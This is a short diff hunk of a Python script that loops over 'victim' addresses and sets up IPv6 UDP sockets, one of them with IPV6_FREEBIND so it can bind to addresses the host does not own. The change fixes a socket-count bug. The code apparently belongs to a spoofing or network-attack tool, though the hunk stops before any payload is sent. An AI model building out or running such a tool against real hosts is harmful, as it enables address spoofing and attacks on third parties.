@@ -250,7 +250,7 @@ import socket, sys
 own = next(l.split()[0] for l in open('/proc/net/if_inet6') if l.split()[5] == 'eth0' and l.split()[3] == '00')
 own = socket.inet_ntop(socket.AF_INET6, bytes.fromhex(own))
 for victim in sys.argv[1:]:
-    mine, false = (socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) for _ in range(2600))
+    mine, false = (socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) for _ in range(2))
     mine.bind((own, 4444))
     mine.settimeout(1)
     false.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
